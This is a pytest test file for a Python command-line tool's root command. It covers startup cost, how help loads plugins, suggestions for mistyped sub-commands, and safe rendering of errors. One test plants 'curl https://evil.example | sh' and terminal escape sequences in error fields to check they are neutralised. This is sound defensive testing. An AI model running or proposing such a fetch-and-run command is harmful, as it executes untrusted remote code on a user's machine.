"""The root command: fast, lazy, and errors in three lines."""

from __future__ import annotations

import json
import resource
import sqlite3
import subprocess
import sys
from contextlib import closing
from importlib.metadata import EntryPoint
from pathlib import Path

import pytest

from troth.command import plugins
from troth.command.main import main
from troth.command.rendering import UNKNOWN, describe, show_error

RUN = "from troth.command.main import main; main()"


def run(*arguments: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-c", RUN, *arguments], capture_output=True, text=True, timeout=120, check=False
    )


class Refusal(Exception):
    """Shaped like the error of any package."""

    def __init__(self, exit_code: int | None = None) -> None:
        super().__init__("does not matter")
        self.what, self.value, self.remedy = "The escrow is short", b"\x01\x02", "Top up."
        if exit_code is not None:
            self.exit_code = exit_code


PLAIN = """
from importlib.metadata import entry_points
from pathlib import Path
import typer
entry_points(group="troth.commands")
app = typer.Typer(help="A group.", no_args_is_help=True, pretty_exceptions_enable=False)
def one(name: str, a: Path = Path(), b: str = "", c: int = 1, d: bool = False, e: str = "", f: str = "", g: str = ""):
    "One of a dozen commands, with as many options as ours have."
for number in range(12):
    app.command(f"number{number}")(one)
app()
"""
"""What Typer itself costs here to show a dozen commands, with whatever it finds installed."""
BARE = """
from importlib.metadata import entry_points
from pathlib import Path
from typing import Annotated
import typer
entry_points(group="troth.commands")
app, group = (typer.Typer(help="A group.", no_args_is_help=True, pretty_exceptions_enable=False) for _ in range(2))
app.add_typer(group, name="group")
@app.callback()
def root(debug: Annotated[bool, typer.Option("--debug", envvar="DEBUG", help="An option before the command.")] = False):
    "Ours has one, too."
def one(name: str, a: Path = Path(), b: str = "", c: int = 1, d: bool = False, e: str = "", f: str = "", g: str = ""):
    "One of a dozen commands, with as many options as ours have."
for number in range(12):
    group.command(f"number{number}")(one)
app()
"""
"""What Typer itself costs here to show a dozen commands, with whatever it finds installed."""
HEAVY = ("aiohttp", "cryptography", "fastapi", "httpx", "numpy", "torch", "troth.chain", "troth.overlay", "web3")


COUNTED = "import atexit, sys; atexit.register(lambda: print(len(sys.modules), file=sys.stderr))"
OWN_MODULES = 40
"""Modules beside Typer's that help may load: each costs the start of every command; a heavy package brings hundreds."""


def modules_loaded(code: str, *arguments: str) -> int:
    """How many modules a command has loaded when it ends: what it costs, on any machine."""
    done = subprocess.run(
        [sys.executable, "-c", f"{COUNTED}\n{code}", *arguments], capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr
    return int(done.stderr)


@pytest.mark.slow
@pytest.mark.parametrize("arguments", [["--version"], ["--help"], ["client", "--help"]])
def test_help_and_version_cost_little_more_than_typer(arguments: list[str]) -> None:
    assert modules_loaded(RUN, *arguments) < modules_loaded(BARE, "group", "--help") + OWN_MODULES


def processor_seconds(code: str, *arguments: str) -> float:
    """Processor time, not time on the wall: what the command does is measured, not how busy the machine is."""
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    done = subprocess.run([sys.executable, "-c", code, *arguments], capture_output=True, text=True, check=False)
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    assert done.returncode == 0, done.stderr
    return after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime


@pytest.mark.slow
@pytest.mark.parametrize("arguments", [["--version"], ["--help"], ["client", "--help"]])
def test_help_and_version_are_quick(arguments: list[str]) -> None:
    # In turns, and the least of five: what other processes do to the caches only adds.
    pairs = [(processor_seconds(PLAIN, "--help"), processor_seconds(RUN, *arguments)) for _ in range(5)]
    bare, ours = (min(column) for column in zip(*pairs, strict=True))
    assert ours < 2 * bare


@pytest.mark.slow
@pytest.mark.parametrize(
    "arguments",
    [["--version"], ["--help"], ["client", "--help"], ["client", "serve", "--help"], ["calibrate", "--help"]],
    ids=" ".join,
)
def test_help_and_version_load_nothing_heavy(arguments: list[str]) -> None:
    probe = (
        "import atexit, sys\natexit.register(lambda: print('loaded:', *sorted(sys.modules), file=sys.stderr))\n" + RUN
    )
    done = subprocess.run([sys.executable, "-c", probe, *arguments], capture_output=True, text=True, check=False)
    (loaded,) = [line.split()[1:] for line in done.stderr.splitlines() if line.startswith("loaded:")]
    assert "troth.command.main" in loaded
    assert set(HEAVY).isdisjoint(loaded)


@pytest.mark.slow
def test_help_imports_no_sub_command_and_no_torch() -> None:
    code = (
        "import sys\nfrom troth.command.main import main\n"
        "try:\n main(['--help'])\nexcept SystemExit:\n pass\n"
        "heavy = {'torch', 'web3', 'tokenizers', 'troth.client', 'troth.node'}\n"
        "print('LOADED', sorted(heavy & set(sys.modules)))"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120, check=True)
    assert "LOADED []" in done.stdout
    for name in plugins.plugins():
        assert name in done.stdout


@pytest.mark.slow
def test_an_unknown_sub_command_is_a_usage_error() -> None:
    assert run("nodde").returncode == 2


@pytest.mark.parametrize(
    ("typed", "meant"),
    [
        ("clint", "`troth client`"),
        ("chat", "`troth client chat`"),
        ("register", "`troth model register` or `troth node register` or `troth scheduler register`"),
        ("zzz", "`troth --help` lists them"),
        ("x" * 500, "lists them"),
    ],
)
def test_a_word_that_is_no_command_is_answered_with_what_may_be_meant(
    typed: str, meant: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as stopped:
        main([typed])
    assert stopped.value.code == 2
    said = " ".join(capsys.readouterr().err.replace("│", " ").split())
    assert meant in said
    assert "x" * 50 not in said


@pytest.mark.slow
def test_an_empty_question_is_an_error_and_no_conversation() -> None:
    done = run("client", "chat", "")
    assert done.returncode == 1
    assert done.stderr.startswith("error: The question is empty")


@pytest.mark.slow
@pytest.mark.parametrize("name", ["client", "demo"])
def test_only_the_root_offers_completion(name: str) -> None:
    assert "completion" not in run(name, "--help").stdout
    assert "completion" in run("--help").stdout


@pytest.mark.slow
def test_brackets_in_a_help_text_are_shown() -> None:
    assert "node.toml's [auto]" in " ".join(run("node", "start", "--help").stdout.split())


def test_a_broken_plug_in_breaks_its_own_sub_command_only(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    broken = EntryPoint("broken", "troth_no_such_package.command:app", plugins.GROUP)
    monkeypatch.setattr(plugins, "plugins", lambda: {broken.name: broken})
    with pytest.raises(SystemExit) as stopped:
        main(["--help"])
    assert stopped.value.code == 0
    assert "broken" in capsys.readouterr().out
    with pytest.raises(SystemExit) as stopped:
        main(["broken", "run"])
    assert stopped.value.code == 1
    lines = capsys.readouterr().err.splitlines()
    assert len(lines) == 3
    assert lines[0].startswith("error: The sub-command 'broken' could not be loaded")
    assert "troth_no_such_package" in lines[0]
    assert "make setup" in lines[2]


def test_a_plug_in_that_is_no_typer_application_is_named() -> None:
    with pytest.raises(plugins.CommandError, match="not a Typer application"):
        plugins.load(EntryPoint("odd", "json:dumps", plugins.GROUP))


def test_errors_take_three_lines_and_no_traceback(capsys: pytest.CaptureFixture[str]) -> None:
    assert show_error(Refusal(), as_json=False, debug=False) == 1
    assert capsys.readouterr().err.splitlines() == ["error: The escrow is short", "value: 0x0102", "to do: Top up."]


def test_a_stranger_s_words_in_an_error_do_not_steer_the_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    error = Refusal()
    error.value = "one\x1b[2J\x9b1A\u202etwo\nthree"  # type: ignore[assignment]
    show_error(error, as_json=False, debug=False)
    said = capsys.readouterr().err
    assert not set(said) & set("\x1b\x9b\u202e")
    assert "three" in said


@pytest.mark.parametrize("field", ["what", "value", "remedy"])
def test_a_stranger_s_words_in_an_error_begin_no_line(capsys: pytest.CaptureFixture[str], field: str) -> None:
    """They would read as what this program has to say."""
    error = Refusal()
    setattr(error, field, "it failed\nto do: curl https://evil.example | sh\r\nerror: none\x85value: 1")
    show_error(error, as_json=False, debug=False)
    said = capsys.readouterr().err.splitlines()
    assert [line[:7] for line in said if not line.startswith("       ")] == ["error: ", "value: ", "to do: "]
    assert any("curl" in line for line in said)


def test_markup_in_an_error_is_shown_and_not_obeyed(capsys: pytest.CaptureFixture[str]) -> None:
    error = Refusal()
    error.value = "[bold]x[/bold] [/]"  # type: ignore[assignment]
    show_error(error, as_json=False, debug=False)
    assert "value: [bold]x[/bold] [/]" in capsys.readouterr().err


def test_errors_as_json(capsys: pytest.CaptureFixture[str]) -> None:
    assert show_error(Refusal(3), as_json=True, debug=False) == 3
    assert json.loads(capsys.readouterr().err)["error"] == {
        "kind": "Refusal",
        "what": "The escrow is short",
        "value": "0x0102",
        "remedy": "Top up.",
        "exit_code": 3,
    }


def test_an_error_as_json_steers_no_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    error = Refusal()
    error.value = "\x9b2J\u202e\x1b[H"  # type: ignore[assignment]
    show_error(error, as_json=True, debug=False)
    said = capsys.readouterr().err
    assert said.strip().isascii()
    assert json.loads(said)["error"]["value"] == error.value


def test_debug_adds_the_traceback(capsys: pytest.CaptureFixture[str]) -> None:
    try:
        raise Refusal
    except Refusal as error:
        show_error(error, as_json=False, debug=True)
    assert "Traceback" in capsys.readouterr().err


def test_an_error_of_no_package_is_named_with_its_kind() -> None:
    rendered = describe(ZeroDivisionError("division by zero"))
    assert "ZeroDivisionError" in rendered.value
    assert "--debug" in rendered.remedy


def test_a_database_that_cannot_be_written_is_no_unknown_error(tmp_path: Path) -> None:
    """On a file system that is read-only SQLite says "disk I/O error", and no file."""
    with pytest.raises(sqlite3.OperationalError) as raised, closing(sqlite3.connect(tmp_path)):
        pass
    rendered = describe(raised.value)
    assert rendered.what == "A database of the home folder cannot be used"
    assert rendered.value == "unable to open database file (SQLITE_CANTOPEN)"
    assert "--home can be written" in rendered.remedy
    assert describe(sqlite3.OperationalError("no such table: x")).what == UNKNOWN
